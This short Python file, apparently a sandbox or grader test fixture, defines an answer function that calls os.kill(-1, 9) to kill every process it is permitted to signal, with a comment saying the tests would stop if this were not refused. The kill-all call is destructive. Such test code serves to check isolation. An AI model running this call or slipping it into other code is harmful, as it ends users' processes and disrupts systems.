"""Kills all processes that it may."""

import os


def answer(*args):
    os.kill(-1, 0)  # does nothing: were it not refused, the tests would stop here
    os.kill(-1, 9)
